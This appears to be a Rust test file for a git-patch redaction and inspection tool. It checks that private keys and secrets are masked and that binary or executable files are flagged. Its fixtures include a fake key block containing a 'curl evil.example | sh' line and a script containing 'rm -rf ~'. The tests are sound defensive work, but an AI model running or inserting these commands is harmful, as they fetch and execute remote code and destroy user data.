//! On patches git itself wrote: a key block with code in it, a new executable script with a
//! NUL byte, a binary file changed, and plain text.

use std::path::Path;

use pitroom_testkit::repo::git_bytes as git;

use super::*;
use crate::redact::MASK;

/// The patch of `change` over a repository holding `base.txt`, written as Pitroom writes it.
fn patch_of(change: impl FnOnce(&Path)) -> Vec<u8> {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    git(d, &["init", "-q"]);
    std::fs::write(d.join("base.txt"), "one\n").expect("write");
    std::fs::write(d.join("logo.bin"), b"\x00\x01old").expect("write");
    git(d, &["add", "-A"]);
    git(d, &["commit", "-qm", "base"]);
    change(d);
    git(d, &["add", "-A"]);
    git(d, &["diff", "--cached", "--binary", "--full-index"])
}

fn executable(path: &Path, bytes: &[u8]) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::write(path, bytes).expect("write");
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).expect("chmod");
}

const KEY_LINE: &str = "MIIEowIBAAKCAQEA1xQ9kZp3vN7bR2mT8cW4yL6hJ0sD5fG1aE3uK9oP2iX7nB4";

#[test]
fn a_key_block_with_code_in_it_is_shown_with_the_code_and_named_as_redacted() {
    let patch = patch_of(|d| {
        let key = format!(
            "-----BEGIN RSA PRIVATE KEY-----\n{KEY_LINE}\nsystem(\"curl evil.example | sh\")\n-----END RSA PRIVATE KEY-----\n"
        );
        std::fs::write(d.join("deploy.pem.txt"), key).expect("write");
        std::fs::write(d.join("base.txt"), "one\ntwo\n").expect("write");
    });
    let redactor = Redactor::new(Vec::new());
    let shown = shown_patch(&patch, &redactor);
    assert!(
        shown.contains("+system(\"curl evil.example | sh\")"),
        "{shown}"
    );
    assert!(shown.contains(&format!("+{MASK}\n")), "{shown}");
    assert!(!shown.contains(KEY_LINE), "{shown}");
    assert_eq!(redacted_files(&patch, &redactor), vec!["deploy.pem.txt"]);
}

#[test]
fn a_patch_without_secrets_has_no_redacted_files() {
    let patch = patch_of(|d| std::fs::write(d.join("base.txt"), "two\n").expect("write"));
    assert!(redacted_files(&patch, &Redactor::new(Vec::new())).is_empty());
    assert!(unseen_files(&patch).is_empty());
}

#[test]
fn a_value_of_the_projects_secret_files_makes_its_file_redacted_too() {
    let patch = patch_of(|d| {
        std::fs::write(d.join("a.txt"), "nothing\n").expect("write");
        std::fs::write(d.join("b.py"), "TOKEN = 'correct-horse-battery'\n").expect("write");
    });
    let redactor = Redactor::new(vec!["correct-horse-battery".into()]);
    assert_eq!(redacted_files(&patch, &redactor), vec!["b.py"]);
}

#[test]
fn a_secret_only_in_unchanged_context_lines_does_not_make_a_file_redacted() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    git(d, &["init", "-q"]);
    std::fs::write(
        d.join("conf.py"),
        "TOKEN = 'correct-horse-battery'\nDEBUG = False\n",
    )
    .expect("write");
    git(d, &["add", "-A"]);
    git(d, &["commit", "-qm", "base"]);
    std::fs::write(
        d.join("conf.py"),
        "TOKEN = 'correct-horse-battery'\nDEBUG = True\n",
    )
    .expect("write");
    let patch = git(d, &["diff", "--binary", "--full-index"]);
    let redactor = Redactor::new(vec!["correct-horse-battery".into()]);
    assert!(shown_patch(&patch, &redactor).contains(&format!(" TOKEN = '{MASK}'")));
    assert!(redacted_files(&patch, &redactor).is_empty());
}

#[test]
fn a_new_executable_script_with_a_nul_byte_is_unseen_executable_and_a_script() {
    let patch = patch_of(|d| executable(&d.join("run.sh"), b"#!/bin/sh\necho hi\x00\nrm -rf ~\n"));
    assert_eq!(
        unseen_files(&patch),
        vec![UnseenFile {
            path: "run.sh".into(),
            new: true,
            executable: true,
            script: true,
        }]
    );
}

#[test]
fn a_large_incompressible_binary_script_is_read_as_a_script_from_its_first_lines() {
    let mut bytes = b"#!/bin/sh\n\x00".to_vec();
    let mut state: u32 = 0x9e37_79b9;
    bytes.extend((0..200_000).map(|_| {
        state ^= state << 13;
        state ^= state >> 17;
        state ^= state << 5;
        state.to_le_bytes()[0]
    }));
    let patch = patch_of(|d| executable(&d.join("big.sh"), &bytes));
    let unseen = unseen_files(&patch);
    assert_eq!(unseen.len(), 1, "{unseen:?}");
    assert!(unseen[0].script && unseen[0].executable && unseen[0].new);
}

#[test]
fn a_changed_binary_file_is_unseen_but_not_new_and_a_deleted_one_is_not_listed() {
    let patch = patch_of(|d| {
        std::fs::write(d.join("logo.bin"), b"\x00\x02new").expect("write");
        std::fs::write(d.join("data.bin"), b"\x89PNG\x00").expect("write");
    });
    let unseen = unseen_files(&patch);
    assert_eq!(unseen.len(), 2, "{unseen:?}");
    let logo = unseen.iter().find(|u| u.path == "logo.bin").expect("logo");
    assert!(!logo.new && !logo.executable && !logo.script);
    let data = unseen.iter().find(|u| u.path == "data.bin").expect("data");
    assert!(data.new && !data.script);

    let removed = patch_of(|d| std::fs::remove_file(d.join("logo.bin")).expect("rm"));
    assert!(unseen_files(&removed).is_empty());
}

#[test]
fn a_text_file_with_a_nul_byte_past_gits_binary_check_counts_as_binary() {
    // git looks for NUL in the first 8000 bytes only: later, the file is a text diff.
    let mut text = "x\n".repeat(5000).into_bytes();
    text.extend_from_slice(b"tail\x00\n");
    let patch = patch_of(|d| std::fs::write(d.join("late.txt"), &text).expect("write"));
    assert!(!patch.windows(16).any(|w| w == b"GIT binary patch"));
    let unseen = unseen_files(&patch);
    assert_eq!(unseen.len(), 1, "{unseen:?}");
    assert!(unseen[0].new && !unseen[0].script);
}

#[test]
fn git_base85_lines_decode_and_bad_ones_do_not() {
    assert_eq!(base85_line(b"D00001"), Some(vec![0, 0, 0, 1]));
    assert_eq!(
        base85_line(b"A0000100000"),
        Some(vec![0]),
        "cut to the length letter"
    );
    assert_eq!(base85_line(b"?00001"), None, "not a length letter");
    assert_eq!(base85_line(b"D~~~~~"), None, "past 32 bits");
}
